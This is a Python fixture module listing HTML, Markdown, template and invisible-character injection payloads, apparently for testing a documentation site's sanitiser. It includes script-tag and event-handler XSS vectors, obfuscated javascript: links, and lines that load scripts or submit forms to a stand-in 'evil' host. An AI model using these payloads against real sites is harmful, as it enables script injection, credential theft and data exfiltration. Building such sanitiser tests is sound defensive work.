"""What an attacker would like to get onto a page, or past the checks. `MARK` stands for a word that tells it again.

Short, so that it is not refused for its length alone.
"""

ELEMENTS = {
    "script": "<script>MARK()</script>",
    "script from elsewhere": "<script src=//evil/MARK></script>",
    "script in capitals": "<ScRiPt/x>MARK()</sCrIpT >",
    "script after an empty comment": "<!--><script>MARK()</script>-->",
    "script after a comment closed by a bang": "<!--a--!><script>MARK()</script>-->",
    "script after a title": "</title><script>MARK()</script>",
    "script after a script": "</script><script>MARK()</script>",
    "script after a text area": "</textarea><script>MARK()</script>",
    "script after CDATA": "<![CDATA[ ><script>MARK()</script>]]>",
    "script within a quoted attribute": '"><script>MARK()</script>',
    "script over two lines": "<script\n>MARK()</script>",
    "image with a handler": "<img src=x onerror=MARK()>",
    "image without an end": "<img src=x onerror=MARK() ",
    "image with slashes": "<img/src='x'/onerror='MARK()'>",
    "vector graphic with a handler": "<svg onload=MARK()>",
    "vector graphic with a link": '<svg><a xlink:href="javascript:MARK()"><text>x</text></a></svg>',
    "mathematics with a style": "<math><mi><style><img src=x onerror=MARK()>",
    "frame": '<iframe srcdoc="MARK"></iframe>',
    "object": "<object data=//evil/MARK></object>",
    "form": "<form action=//evil/MARK><input name=a></form>",
    "form after a backslash": "\\<form action=//evil/MARK>",
    "button that leads away": "<button formaction=//evil/MARK>x</button>",
    "new base": "<base href=//evil/MARK/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil/MARK">',
    "style sheet": "<link rel=stylesheet href=//evil/MARK>",
    "style": "<style>*{color:red}/*MARK*/</style>",
    "template": "<template><b>MARK</b></template>",
    "all the rest as text": "<plaintext>MARK",
    "closing of everything": "</code></pre></div></article></main><b>MARK",
    "handler on a harmless element": "<b onclick=MARK()>x</b>",
    "style on a harmless element": '<b style="position:fixed">MARK</b>',
    "the theme's own identifier": '<b id="__search">MARK</b>',
    "processing instruction": "<?php MARK() ?><b>",
    "declaration": "<!DOCTYPE MARK [<!ENTITY x 'y'>]>",
    "comment": "<!-- MARK",
    "end of CDATA": "MARK]]>",
    "element by entities": "&lt;script&gt;MARK()&lt;/script&gt;",
    "element by numeric entities": "&#60;script&#62;MARK()&#60;/script&#62;",
    "element by entities twice": "&amp;lt;script&amp;gt;MARK()",
    "element of full width": "\uff1cscript\uff1eMARK()\uff1c/script\uff1e",
}
ADDRESSES = {
    "link that runs": "[x](javascript:MARK)",
    "link with an entity": "[x](&#106;avascript:MARK)",
    "link with a named entity": "[x](javascript&colon;MARK)",
    "link with white space": "[x](java\tscript:MARK)",
    "link in capitals": "[x](JaVaScRiPt:MARK)",
    "link in pointed brackets": "[x](<javascript:MARK>)",
    "link with a line break": "[x](java\nscript:MARK)",
    "link in percent signs": "[x](%6aavascript:MARK)",
    "link with a backslash": "[x](\\javascript:MARK)",
    "link after a control character": "[x](\x01javascript:MARK)",
    "link by reference": "[x]\n\n[x]: javascript:MARK",
    "link that holds data": "[x](data:text/html,MARK)",
    "link of another old script": "[x](vbscript:MARK)",
    "link with blob": "[x](blob:https://evil/MARK)",
    "link to another host": "[x](//evil/MARK)",
    "link to another host by backslashes": "[x](\\\\\\\\evil/MARK)",
    "link out of the site": "[x](../../../../../MARK)",
    "link to the root": "[x](/MARK)",
    "link with a broken host": "[x](https://[bad/MARK)",
    "image from elsewhere": "![x](https://evil.example/MARK.png)",
    "image that runs": "![x](javascript:MARK)",
    "automatic link that runs": "<javascript:MARK>",
    "plain address that runs": "javascript:MARK",
    "plain address by unicode escape": "\\u006aavascript:MARK",
    "plain address of data": "data:text/html,<script>MARK()</script>",
    "plain address of a broken host": "https://[bad",
    "plain address of another host": "//evil/MARK",
}
MARKUP = {
    "attribute list with a handler": "*x*{onclick=MARK()}",
    "attribute list with a style": "*x*{: style=color:red data-a=MARK }",
    "attribute list with the theme's identifier": "*x*{#__drawer}",
    "attribute list with an address": "[x](https://example.org){href=javascript:MARK}",
    "citation of nothing": "[@MARK]",
    "citation": "[@adams2020first] MARK",
    "citation in code": "`[@adams2020first]` MARK",
    "reference of nothing": "[^ref-MARK]",
    "footnote with the name of a reference": "[^ref-adams2020first] MARK",
    "list of references": "\\bibliography MARK",
    "all references": "\\full_bibliography MARK",
    "our token for HTML": "\ue0003c623e\ue001MARK",
    "our mark for terms": "\ue002MARK\ue003",
    "our mark for no tag": "<\ue004MARK",
    "Jinja": "{{ 1 }}{% raw %}{# MARK #}",
    "the stash of Markdown": "\x02wzxhzdk:0\x03 \x02amp\x03 MARK",
    "the stash of Markdown by entities": "&#2;wzxhzdk:0&#3; MARK",
    "snippet": '--8<-- "mkdocs.yml" MARK',
    "insert": "\n::: stages\n\nMARK",
    "formula": "=HYPERLINK(1) MARK",
    "lone ampersand": "a & b &amp MARK",
    "brackets without an end": "[[[[(((( {{{{ <<<< MARK",
    "quotation marks": "\"'`\"'` MARK",
}
INVISIBLE = {
    "change of direction": "\u202eMARK",
    "change of direction by entity": "&#8238;MARK&rlm;",
    "zero width": "a\u200bb\u200dc MARK",
    "zero width by entity": "a&ZeroWidthSpace;b&#x200d; MARK",
    "soft hyphen": "a\u00adb MARK",
    "soft hyphen by entity": "a&shy;b MARK",
    "tag characters": "\U000e0041\U000e0042MARK",
    "tag characters by entity": "&#xe0041;MARK",
    "private use by entity": "&#xe000;3c623e&#xe001;MARK",
    "control character": "a\x00b\x1b[31m MARK",
    "control character by entity": "a&#0;b&#x1b; MARK",
    "later control character": "a\x9bb\x85 MARK",
    "line separator": "a\u2028b\u2029 MARK",
    "byte order mark": "a\ufeffb MARK",
}
# What must print as it is written where it stands in a text field.
PROBE = {"probe": "Say \"yes\" & a<b>c 'q' [@x] *y* `z` {.k} MARK"}
# What only a field can hold, by the escapes of YAML.
FIELD = {"lone surrogate": "a\ud800b MARK", "line breaks": "a\n\n# b\n\nMARK", "only white space": " \t "}

PAYLOADS = {**ELEMENTS, **ADDRESSES, **MARKUP, **INVISIBLE, **PROBE}
FIELD_PAYLOADS = {**PAYLOADS, **FIELD}
# Not markup but text, which the checks may well accept: what Chromium is shown.
CLASSES = {"elements": ELEMENTS, "addresses": ADDRESSES, "markup": MARKUP, "invisible": INVISIBLE, "probe": PROBE}


def mark(number: int) -> str:
    """A word by which the text of a number is found again."""
    return f"q{number}z"


def marked(text: str, number: int) -> str:
    """A payload or a context with the mark of its number."""
    return text.replace("MARK", mark(number))
